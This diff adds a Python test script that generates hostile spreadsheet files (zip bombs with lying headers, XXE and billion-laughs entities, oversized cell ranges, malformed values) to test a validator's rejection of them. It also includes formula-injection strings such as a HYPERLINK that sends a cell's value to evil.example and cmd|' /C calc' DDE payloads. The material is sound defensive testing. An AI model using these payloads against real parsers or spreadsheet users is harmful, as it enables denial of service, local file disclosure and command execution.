@@ -1,0 +1,596 @@
+"""Generate the hostile and malformed input corpus (issue 8) into a directory.
+
+Nothing here is committed as a binary: every file is built at test time from a
+freshly generated template (or from scratch), so the corpus follows the template
+as it changes.  Run by hand to look at the files::
+
+    python tests/hostile/make_corpus.py /tmp/corpus
+
+Each :class:`Case` says what a correct reader does with the file: ``exit`` is the
+exit code ``xl-disclosure validate`` must give (a set when more than one is
+acceptable), ``reason`` are Chinese fragments the message must contain.  ``marker``
+cases reference a local file whose unique content must never show up anywhere
+(XML external entities).
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import re
+import struct
+import sys
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+from xml.etree import ElementTree as ET
+
+import openpyxl
+
+from xl_disclosure.form import FORM, SHEET_COVER, SHEET_META, SHEET_S3, Kind
+from xl_disclosure.samples import seed_report
+from xl_disclosure.template import build_template
+from xl_disclosure.validate_cli import fill_values
+
+#: Content of the local file that external-entity cases point at; must never leak.
+MARKER = "XXE-MARKER-7f3a9c1e-LEAKED"
+#: Inflated size of the zip-bomb members (the test machine never holds it).
+BOMB_BYTES = 1 << 30
+
+_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+UNREADABLE = frozenset({2})
+
+
+@dataclasses.dataclass(frozen=True)
+class Case:
+    name: str
+    exit: frozenset[int]
+    reason: tuple[str, ...] = ()
+    note: str = ""
+    marker: bool = False  # references the marker file through an XML entity
+    tags: frozenset[str] = frozenset()
+
+
+# ---------------------------------------------------------------------------
+# Zip plumbing
+# ---------------------------------------------------------------------------
+
+@dataclasses.dataclass
+class Member:
+    name: str
+    data: bytes  # stored bytes (already deflated when method == 8)
+    crc: int
+    size: int  # declared uncompressed size
+    method: int = 8
+
+
+def deflate(name: str, data: bytes) -> Member:
+    co = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = co.compress(data) + co.flush()
+    return Member(name, packed, zlib.crc32(data), len(data))
+
+
+def write_zip(path: Path, members: list[Member], *, extra_central: int = 0) -> Path:
+    """A zip written by hand, so that headers can lie (sizes, CRCs, entry counts).
+
+    ``extra_central`` adds that many central-directory entries that all point at the
+    first local header (the "overlapping entries" trick).
+    """
+    out = bytearray()
+    central = bytearray()
+    for m in members:
+        name = m.name.encode()
+        offset = len(out)
+        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, m.method, 0, 0x21, m.crc,
+                           len(m.data), m.size, len(name), 0) + name + m.data
+        central += _central(name, m, offset)
+    first = members[0]
+    for i in range(extra_central):
+        central += _central(f"x/{i}".encode(), first, 0)
+    count = len(members) + extra_central
+    cd_offset = len(out)
+    out += central
+    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
+                       len(central), cd_offset, 0)
+    path.write_bytes(bytes(out))
+    return path
+
+
+def _central(name: bytes, m: Member, offset: int) -> bytes:
+    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, m.method, 0, 0x21, m.crc,
+                       len(m.data), m.size, len(name), 0, 0, 0, 0, 0, offset) + name
+
+
+def read_members(path: Path) -> dict[str, bytes]:
+    import zipfile
+
+    with zipfile.ZipFile(path) as zf:
+        return {i.filename: zf.read(i.filename) for i in zf.infolist()}
+
+
+def rezip(src: Path, dst: Path, edit: Callable[[str, bytes], bytes | None],
+          add: dict[str, bytes] | None = None) -> Path:
+    """Copy a workbook, passing each part through ``edit`` (None drops the part)."""
+    members = []
+    for name, data in read_members(src).items():
+        new = edit(name, data)
+        if new is not None:
+            members.append(deflate(name, new))
+    for name, data in (add or {}).items():
+        members.append(deflate(name, data))
+    return write_zip(dst, members)
+
+
+def bomb_stream(head: bytes, tail: bytes, size: int = BOMB_BYTES) -> tuple[bytes, int]:
+    """Deflate ``head + b'A' * size + tail`` in a few milliseconds, and its CRC.
+
+    Each 1 MiB run is compressed after a full flush, so its compressed form is the
+    same every time and is simply repeated; the CRC is computed chunk by chunk.
+    """
+    chunk = b"A" * (1 << 20)
+    co = zlib.compressobj(9, zlib.DEFLATED, -15)
+    h = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
+    c = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
+    t = co.compress(tail) + co.flush()
+    n = size // len(chunk)
+    crc = zlib.crc32(head)
+    for _ in range(n):
+        crc = zlib.crc32(chunk, crc)
+    crc = zlib.crc32(tail, crc)
+    return h + c * n + t, crc
+
+
+# ---------------------------------------------------------------------------
+# Template plumbing
+# ---------------------------------------------------------------------------
+
+def sheet_parts(path: Path) -> dict[str, str]:
+    """Sheet name → part name of our own (trusted) template."""
+    parts = read_members(path)
+    book = ET.fromstring(parts["xl/workbook.xml"])
+    rels = ET.fromstring(parts["xl/_rels/workbook.xml.rels"])
+    targets = {r.get("Id"): "xl/" + r.get("Target", "").lstrip("/").removeprefix("xl/")
+               for r in rels.iter(f"{{{_PKG_REL}}}Relationship")}
+    return {s.get("name", ""): targets[s.get(f"{{{_REL}}}id")] for s in book.iter(f"{{{_NS}}}sheet")}
+
+
+def set_cell_xml(xml: bytes, ref: str, inner: bytes, attrs: bytes = b"") -> bytes:
+    """Replace cell ``ref``'s XML (keeping its style) with ``<c r=ref s=.. attrs>inner</c>``."""
+    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"([^>]*?)(/>|>.*?</c>)', re.S)
+    m = pattern.search(xml)
+    assert m is not None, f"cell {ref} not in sheet XML"
+    style = re.search(rb'\ss="\d+"', m.group(1))
+    new = b'<c r="' + ref.encode() + b'"' + (style.group(0) if style else b"") + attrs + b">" + inner + b"</c>"
+    return xml[:m.start()] + new + xml[m.end():]
+
+
+def first_field(kind: Kind, sheet: str | None = None) -> tuple[str, str, str]:
+    f = next(f for f in FORM.inputs if f.kind == kind and (sheet is None or f.sheet == sheet))
+    return f.id, f.sheet, f.cell
+
+
+def xml_decl_stripped(data: bytes) -> bytes:
+    return re.sub(rb"^\s*<\?xml[^>]*\?>", b"", data)
+
+
+def with_doctype(data: bytes, doctype: str, *, encoding: str = "utf-8") -> bytes:
+    body = xml_decl_stripped(data).decode("utf-8")
+    root = re.match(r"\s*<([A-Za-z_:][\w:.-]*)", body)
+    assert root is not None
+    text = f'<?xml version="1.0" encoding="{encoding.upper()}" standalone="no"?>' \
+           f"<!DOCTYPE {root.group(1)} [{doctype}]>" + body
+    return text.encode(encoding) if encoding != "utf-16" else b"\xff\xfe" + text.encode("utf-16-le")
+
+
+def xxe_doctype(marker_file: Path) -> str:
+    return f'<!ENTITY xxe SYSTEM "{marker_file.as_uri()}">'
+
+
+BILLION_LAUGHS = '<!ENTITY lol "lol">' + "".join(
+    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
+
+
+def inject_entity_text(data: bytes, entity: str) -> bytes:
+    """Put ``&entity;`` into the first text node of a part (or an attribute when there is none)."""
+    m = re.search(rb">([^<>]+)<", data)
+    if m is not None:
+        return data[:m.start(1)] + f"&{entity};".encode() + data[m.end(1):]
+    m = re.search(rb'="([^"]*)"', data)
+    assert m is not None
+    return data[:m.start(1)] + f"&{entity};".encode() + data[m.end(1):]
+
+
+# ---------------------------------------------------------------------------
+# Legacy compound files
+# ---------------------------------------------------------------------------
+
+def compound_file(streams: dict[str, bytes]) -> bytes:
+    """A minimal OLE compound file (CFB v3) holding ``streams`` (each ≥ 4096 bytes, in the FAT)."""
+    sector = 512
+    free, end, fat_sect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
+    names = list(streams)
+    data_sectors: list[list[int]] = []
+    nxt = 2
+    for name in names:
+        n = -(-len(streams[name]) // sector)
+        data_sectors.append(list(range(nxt, nxt + n)))
+        nxt += n
+    assert nxt <= sector // 4, "compound_file() keeps the FAT in one sector"
+    fat = [fat_sect, end] + [free] * (sector // 4 - 2)
+    for secs in data_sectors:
+        for a, b in zip(secs, secs[1:] + [end], strict=True):
+            fat[a] = b
+
+    def entry(name: str, kind: int, start: int, size: int, child: int = free, right: int = free) -> bytes:
+        raw = name.encode("utf-16-le") + b"\x00\x00"
+        return struct.pack("<64sHBBIII16sIQQIQ", raw, len(raw), kind, 1, free, right, child, b"\x00" * 16,
+                           0, 0, 0, start, size)
+
+    entries = [entry("Root Entry", 5, end, 0, child=1)]
+    for i, name in enumerate(names):
+        right = i + 2 if i + 1 < len(names) else free
+        entries.append(entry(name, 2, data_sectors[i][0], len(streams[name]), right=right))
+    directory = b"".join(entries).ljust(sector, b"\x00")
+    assert len(directory) == sector
+    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x00" * 16,
+                         0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
+    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108
+    assert len(header) == sector
+    body = b"".join(streams[n].ljust(len(s) * sector, b"\x00") for n, s in zip(names, data_sectors, strict=True))
+    return header + struct.pack(f"<{sector // 4}I", *fat) + directory + body
+
+
+def legacy_xls() -> bytes:
+    """A BIFF8-looking workbook stream in a compound file: what Excel 97-2003 writes."""
+    bof = struct.pack("<HHHHII", 0x0809, 16, 0x0600, 0x0005, 0, 0)
+    eof = struct.pack("<HH", 0x000A, 0)
+    return compound_file({"Workbook": (bof + eof).ljust(4096, b"\x00")})
+
+
+# ---------------------------------------------------------------------------
+# The corpus
+# ---------------------------------------------------------------------------
+
+def base_template(out: Path) -> Path:
+    path = out / "_base.xlsx"
+    if not path.exists():
+        build_template(path, values=fill_values(seed_report()))
+    return path
+
+
+def make_corpus(out: Path) -> dict[str, Case]:
+    out.mkdir(parents=True, exist_ok=True)
+    base = base_template(out)
+    marker_file = out / "_marker.txt"
+    marker_file.write_text(MARKER, encoding="utf-8")
+    (out / "_marker.dtd").write_text(f'<!ENTITY ext "{MARKER}">', encoding="utf-8")
+    parts = sheet_parts(base)
+    cases: dict[str, Case] = {}
+
+    def add(case: Case, make: Callable[[Path], object]) -> None:
+        make(out / case.name)
+        cases[case.name] = case
+
+    # -- not a workbook at all -------------------------------------------------
+    add(Case("empty.xlsx", UNREADABLE, ("空",), "0 bytes"), lambda p: p.write_bytes(b""))
+    add(Case("not-a-zip.xlsx", UNREADABLE, ("不是 Excel",), "a PNG named .xlsx"),
+        lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4))
+    add(Case("csv-renamed.xlsx", UNREADABLE, ("不是 Excel",), "a CSV export renamed .xlsx"),
+        lambda p: p.write_text("机关名称,年度\n孟津区西霞院街道办事处,2024\n", encoding="utf-8"))
+    add(Case("truncated.xlsx", UNREADABLE, ("损坏",), "first half of a real workbook"),
+        lambda p: p.write_bytes(base.read_bytes()[: base.stat().st_size // 2]))
+    add(Case("truncated-tail.xlsx", UNREADABLE, ("损坏",), "all but the last 10 bytes"),
+        lambda p: p.write_bytes(base.read_bytes()[:-10]))
+
+    def bad_crc(p: Path) -> None:
+        members = [deflate(n, d) for n, d in read_members(base).items()]
+        target = next(m for m in members if m.name == parts[SHEET_S3])
+        target.crc ^= 0xFFFF
+        write_zip(p, members)
+
+    add(Case("bad-crc.xlsx", UNREADABLE, ("损坏",), "a sheet part whose CRC does not match"), bad_crc)
+
+    def unsupported_method(p: Path) -> None:
+        members = [deflate(n, d) for n, d in read_members(base).items()]
+        members[0].method = 99
+        write_zip(p, members)
+
+    add(Case("unknown-compression.xlsx", UNREADABLE, ("损坏",), "compression method 99"), unsupported_method)
+
+    # -- zip bombs ---------------------------------------------------------------
+    head = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + _NS.encode() + \
+        b'" count="1" uniqueCount="1"><si><t>'
+    tail = b"</t></si></sst>"
+
+    def bomb(p: Path, *, honest: bool, part: str) -> None:
+        members = [deflate(n, d) for n, d in read_members(base).items() if n != part]
+        if part.endswith("sharedStrings.xml"):
+            data, crc = bomb_stream(head, tail)
+            full = len(head) + BOMB_BYTES + len(tail)
+        else:
+            sheet_head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="' + _NS.encode() + \
+                b'"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
+            sheet_tail = b"</t></is></c></row></sheetData></worksheet>"
+            data, crc = bomb_stream(sheet_head, sheet_tail)
+            full = len(sheet_head) + BOMB_BYTES + len(sheet_tail)
+        if honest:
+            members.append(Member(part, data, crc, full))
+        else:  # declare 4 KiB, with the CRC of the first 4 KiB: only a bounded reader notices
+            prefix = zlib.decompressobj(-15).decompress(data, 4096)
+            members.append(Member(part, data, zlib.crc32(prefix), 4096))
+        write_zip(p, members)
+
+    add(Case("bomb-sheet.xlsx", UNREADABLE, ("压缩炸弹",), "a sheet part inflating to 1 GiB, sizes declared",
+             tags=frozenset({"bomb"})),
+        lambda p: bomb(p, honest=True, part=parts[SHEET_S3]))
+    add(Case("bomb-sheet-lying.xlsx", UNREADABLE, (), "a sheet part inflating to 1 GiB, declared 4 KiB",
+             tags=frozenset({"bomb"})),
+        lambda p: bomb(p, honest=False, part=parts[SHEET_S3]))
+    add(Case("bomb-shared-strings.xlsx", UNREADABLE, ("压缩炸弹",), "sharedStrings inflating to 1 GiB",
+             tags=frozenset({"bomb"})),
+        lambda p: bomb(p, honest=True, part="xl/sharedStrings.xml"))
+    add(Case("bomb-shared-strings-lying.xlsx", UNREADABLE, (), "sharedStrings inflating to 1 GiB, declared 4 KiB",
+             tags=frozenset({"bomb"})),
+        lambda p: bomb(p, honest=False, part="xl/sharedStrings.xml"))
+    add(Case("many-entries.xlsx", UNREADABLE, ("内部部件",), "200,000 extra central-directory entries, all pointing at one member",
+             tags=frozenset({"bomb"})),
+        lambda p: write_zip(p, [deflate(n, d) for n, d in read_members(base).items()], extra_central=200_000))
+
+    def far_cell(p: Path) -> None:
+        def edit(name: str, data: bytes) -> bytes:
+            if name == parts[SHEET_S3]:
+                return data.replace(b"</sheetData>",
+                                    b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
+            return data
+        rezip(base, p, edit)
+
+    add(Case("far-cell.xlsx", UNREADABLE, ("范围过大",), "one value at XFD1048576: calamine would lay out 17e9 cells",
+             tags=frozenset({"bomb"})), far_cell)
+
+    def implicit_far(p: Path) -> None:
+        def edit(name: str, data: bytes) -> bytes:
+            if name == parts[SHEET_S3]:
+                return data.replace(b"</sheetData>",
+                                    b'<row r="400000"><c r="ZZ400000"/><c><v>1</v></c></row></sheetData>')
+            return data
+        rezip(base, p, edit)
+
+    add(Case("far-cell-implicit.xlsx", UNREADABLE, ("范围过大",), "a cell without r after ZZ400000",
+             tags=frozenset({"bomb"})), implicit_far)
+
+    def shared_strings(p: Path, sst: bytes, *, doctype: str | None = None) -> None:
+        """Move the agency name into a shared-string table (Excel's usual layout)."""
+        _, sheet, cell = "cover_agency_name", SHEET_COVER, FORM.by_id["cover_agency_name"].cell
+        if doctype is not None:
+            sst = with_doctype(sst, doctype)
+
+        def edit(name: str, data: bytes) -> bytes:
+            if name == parts[sheet]:
+                return set_cell_xml(data, cell, b"<v>0</v>", b' t="s"')
+            if name == "xl/_rels/workbook.xml.rels":
+                return data.replace(b"</Relationships>",
+                                    b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/'
+                                    b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
+                                    b"</Relationships>")
+            if name == "[Content_Types].xml":
+                return data.replace(b"</Types>",
+                                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+                                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
+            return data
+        rezip(base, p, edit, add={"xl/sharedStrings.xml": sst})
+
+    sst_body = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + _NS.encode() + \
+        b'" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
+    add(Case("sst-count.xlsx", UNREADABLE, ("文字条目",), "sharedStrings declaring 4e9 entries (calamine preallocates)",
+             tags=frozenset({"bomb"})),
+        lambda p: shared_strings(p, sst_body.replace(b"&xxe;", b"x").replace(b'uniqueCount="1"',
+                                                                              b'uniqueCount="4000000000"')))
+    add(Case("shared-strings-ok.xlsx", frozenset({0}), (), "control: shared strings without tricks read fine"),
+        lambda p: shared_strings(p, sst_body.replace(b"&xxe;", seed_report().values["cover_agency_name"].encode())))
+
+    # -- XML entities: XXE and billion laughs in every kind of part -----------------
+    xxe_targets = {
+        "sheet": parts[SHEET_S3],
+        "cover-sheet": parts[SHEET_COVER],
+        "meta-sheet": parts[SHEET_META],
+        "workbook": "xl/workbook.xml",
+        "workbook-rels": "xl/_rels/workbook.xml.rels",
+        "styles": "xl/styles.xml",
+        "core-props": "docProps/core.xml",
+        "app-props": "docProps/app.xml",
+        "custom-props": "docProps/custom.xml",
+        "content-types": "[Content_Types].xml",
+        "package-rels": "_rels/.rels",
+    }
+    members = read_members(base)
+    xxe_targets = {k: v for k, v in xxe_targets.items() if v in members}
+
+    def entity_part(p: Path, part: str, doctype: str, entity: str, *, encoding: str = "utf-8") -> None:
+        def edit(name: str, data: bytes) -> bytes:
+            if name == part:
+                return with_doctype(inject_entity_text(data, entity), doctype, encoding=encoding)
+            return data
+        rezip(base, p, edit)
+
+    for label, part in xxe_targets.items():
+        add(Case(f"xxe-{label}.xlsx", UNREADABLE, ("DTD",), f"external entity in {part}", marker=True,
+                 tags=frozenset({"entity"})),
+            lambda p, part=part: entity_part(p, part, xxe_doctype(marker_file), "xxe"))
+        add(Case(f"laughs-{label}.xlsx", UNREADABLE, ("DTD",), f"billion laughs in {part}",
+                 tags=frozenset({"entity"})),
+            lambda p, part=part: entity_part(p, part, BILLION_LAUGHS, "lol9"))
+    add(Case("xxe-sheet-utf16.xlsx", UNREADABLE, ("DTD",), "external entity in a UTF-16 sheet part", marker=True,
+             tags=frozenset({"entity"})),
+        lambda p: entity_part(p, parts[SHEET_S3], xxe_doctype(marker_file), "xxe", encoding="utf-16"))
+    add(Case("xxe-parameter.xlsx", UNREADABLE, ("DTD",), "parameter entity loading an external DTD", marker=True,
+             tags=frozenset({"entity"})),
+        lambda p: entity_part(p, parts[SHEET_COVER],
+                              f'<!ENTITY % ext SYSTEM "{(out / "_marker.dtd").as_uri()}"> %ext;', "ext"))
+    add(Case("xxe-shared-strings.xlsx", UNREADABLE, ("DTD",), "external entity in sharedStrings", marker=True,
+             tags=frozenset({"entity"})),
+        lambda p: shared_strings(p, sst_body, doctype=xxe_doctype(marker_file)))
+    add(Case("laughs-shared-strings.xlsx", UNREADABLE, ("DTD",), "billion laughs in sharedStrings",
+             tags=frozenset({"entity"})),
+        lambda p: shared_strings(p, sst_body.replace(b"&xxe;", b"&lol9;"), doctype=BILLION_LAUGHS))
+
+    # -- other containers ----------------------------------------------------------
+    def encrypted(p: Path) -> None:
+        from msoffcrypto.format.ooxml import OOXMLFile
+
+        with open(base, "rb") as src, open(p, "wb") as dst:
+            OOXMLFile(src).encrypt("secret-123", dst)
+
+    add(Case("encrypted.xlsx", UNREADABLE, ("密码", "清空密码", "重新提交"), "open password (ECMA-376 agile encryption)"),
+        encrypted)
+    add(Case("legacy.xls", UNREADABLE, ("旧版",), "an Excel 97-2003 compound file"),
+        lambda p: p.write_bytes(legacy_xls()))
+    add(Case("legacy-renamed.xlsx", UNREADABLE, ("旧版", ".xls"), "an Excel 97-2003 file renamed .xlsx"),
+        lambda p: p.write_bytes(legacy_xls()))
+
+    def unrelated(p: Path) -> None:
+        wb = openpyxl.Workbook()
+        wb.active["A1"] = "随便一个表格"
+        wb.save(p)
+
+    add(Case("unrelated.xlsx", UNREADABLE, ("不是本工具生成",), "an openpyxl blank workbook"), unrelated)
+
+    # -- our template, altered -----------------------------------------------------
+    def with_openpyxl(p: Path, change: Callable[[openpyxl.Workbook], None]) -> None:
+        wb = openpyxl.load_workbook(base)
+        change(wb)
+        wb.save(p)
+
+    def set_meta(key: str, value: object) -> Callable[[openpyxl.Workbook], None]:
+        def change(wb: openpyxl.Workbook) -> None:
+            ws = wb[SHEET_META]
+            for row in ws.iter_rows():
+                if row[0].value == key:
+                    row[1].value = value
+                    return
+            raise AssertionError(f"{key} not in _meta")
+        return change
+
+    add(Case("other-version.xlsx", UNREADABLE, ("第 99 版",), "template_version 99"),
+        lambda p: with_openpyxl(p, set_meta("template_version", 99)))
+    add(Case("broken-version.xlsx", UNREADABLE, ("版本号",), "template_version not a number"),
+        lambda p: with_openpyxl(p, set_meta("template_version", "v-one")))
+    add(Case("other-template-id.xlsx", UNREADABLE, ("不是本工具生成",), "template_id changed"),
+        lambda p: with_openpyxl(p, set_meta("template_id", "someone-else")))
+
+    def rename(wb: openpyxl.Workbook) -> None:
+        wb[SHEET_S3].title = "依申请公开（改）"
+
+    def delete(wb: openpyxl.Workbook) -> None:
+        del wb[SHEET_S3]
+
+    def reorder(wb: openpyxl.Workbook) -> None:
+        wb._sheets.reverse()  # noqa: SLF001 — openpyxl has no public reorder of all sheets
+        wb.active = 0
+
+    add(Case("sheet-renamed.xlsx", UNREADABLE, ("依申请公开", "改名"), "a data sheet renamed"),
+        lambda p: with_openpyxl(p, rename))
+    add(Case("sheet-deleted.xlsx", UNREADABLE, ("依申请公开", "缺失"), "a data sheet deleted"),
+        lambda p: with_openpyxl(p, delete))
+    add(Case("sheet-reordered.xlsx", frozenset({0}), (), "sheets in reverse order: cells are found by sheet name"),
+        lambda p: with_openpyxl(p, reorder))
+
+    def insert_rows(wb: openpyxl.Workbook) -> None:
+        wb[SHEET_S3].insert_rows(8, 2)
+
+    add(Case("rows-inserted.xlsx", frozenset({1}), ("tamper.formula",), "two rows inserted in 依申请公开"),
+        lambda p: with_openpyxl(p, insert_rows))
+
+    def merges(wb: openpyxl.Workbook) -> None:
+        for name in (SHEET_S3, "总体情况"):
+            ws = wb[name]
+            for rng in list(ws.merged_cells.ranges):
+                ws.unmerge_cells(str(rng))
+        wb["总体情况"].merge_cells("A20:D22")
+
+    add(Case("merges-changed.xlsx", frozenset({0}), (), "merged ranges removed and added: values are read by cell"),
+        lambda p: with_openpyxl(p, merges))
+
+    total = FORM.totals[0]
+
+    def constants(wb: openpyxl.Workbook) -> None:
+        for t in FORM.totals[:3]:
+            wb[t.sheet][t.cell] = 7
+
+    add(Case("formulas-replaced.xlsx", frozenset({1}), ("tamper.formula", total.cell),
+             "total formulas replaced by constants"), lambda p: with_openpyxl(p, constants))
+
+    # -- hostile values in count cells (raw XML: what other programs can write) ----
+    cid, csheet, ccell = first_field(Kind.COUNT, SHEET_S3)
+
+    def count_value(p: Path, inner: bytes, attrs: bytes = b"") -> None:
+        def edit(name: str, data: bytes) -> bytes:
+            return set_cell_xml(data, ccell, inner, attrs) if name == parts[csheet] else data
+        rezip(base, p, edit)
+
+    count_cases = {
+        "count-text": ("<is><t>十二件</t></is>".encode(), b' t="inlineStr"'),
+        "count-date": (b"<v>2024-03-05T00:00:00</v>", b' t="d"'),
+        "count-1e308": (b"<v>1E+308</v>", b""),
+        "count-1e20": (b"<v>100000000000000000000</v>", b""),
+        "count-nan": (b"<v>NaN</v>", b""),
+        "count-inf": (b"<v>INF</v>", b""),
+        "count-negative-zero": (b"<v>-0</v>", b""),
+        "count-error": (b"<v>#DIV/0!</v>", b' t="e"'),
+        "count-bool": (b"<v>1</v>", b' t="b"'),
+        "count-huge-text": (b"<is><t>" + b"9" * 5000 + b"</t></is>", b' t="inlineStr"'),
+    }
+    for label, (inner, attrs) in count_cases.items():
+        add(Case(f"{label}.xlsx", frozenset({0, 1, 2}), (), f"{ccell} of {csheet} = {inner[:40]!r}",
+                 tags=frozenset({"count"})),
+            lambda p, inner=inner, attrs=attrs: count_value(p, inner, attrs))
+
+    # -- hostile text: formula injection, long narratives, non-BMP -----------------
+    def texts(values: dict[str, object]) -> Callable[[Path], None]:
+        def make(p: Path) -> None:
+            report = seed_report()
+            filled = fill_values(report)
+            filled.update(values)
+            build_template(p, values=filled)
+        return make
+
+    injections = {
+        "cover_agency_name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+        "cover_preparer": "+cmd|' /C calc'!A0",
+        "cover_parent": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "n1_proactive": "-1+1",
+        "n1_on_request": "=1+1\t\r\n（以下为正文）",
+        "n5_problems": "＝HYPERLINK(\"http://evil.example\")",
+    }
+    add(Case("formula-injection.xlsx", frozenset({0, 1}), (), "formula-like text in names and narratives",
+             tags=frozenset({"text"})), texts(injections))
+    add(Case("long-narratives.xlsx", frozenset({0, 1}), (), "32,767-character narratives (Excel's cell limit)",
+             tags=frozenset({"text"})),
+        texts({f.id: ("公开" * 16384)[:32767] for f in FORM.inputs if f.kind == Kind.LONGTEXT}))
+    add(Case("non-bmp.xlsx", frozenset({0, 1}), (), "characters outside the BMP in names and narratives",
+             tags=frozenset({"text"})),
+        texts({"cover_agency_name": "𠀀𪚥街道办事处😀", "n1_proactive": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀 𠮷野家 " * 50}))
+
+    # -- file names ------------------------------------------------------------------
+    for label, name in {"spaces": "西霞院 街道 2024 年报.xlsx", "emoji": "报表😀 final (1).xlsx"}.items():
+        add(Case(name, frozenset({0}), (), f"file name with {label}", tags=frozenset({"name"})),
+            lambda p: p.write_bytes(base.read_bytes()))
+    add(Case("损坏的 报表😀.xlsx", UNREADABLE, ("损坏",), "unreadable file with Chinese, spaces and emoji in its name",
+             tags=frozenset({"name"})),
+        lambda p: p.write_bytes(base.read_bytes()[:3000]))
+    return cases
+
+
+def main(argv: list[str]) -> int:
+    if len(argv) != 1:
+        print("usage: make_corpus.py OUTDIR", file=sys.stderr)
+        return 2
+    cases = make_corpus(Path(argv[0]))
+    for case in cases.values():
+        print(f"{case.name}\texit {sorted(case.exit)}\t{case.note}")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main(sys.argv[1:]))
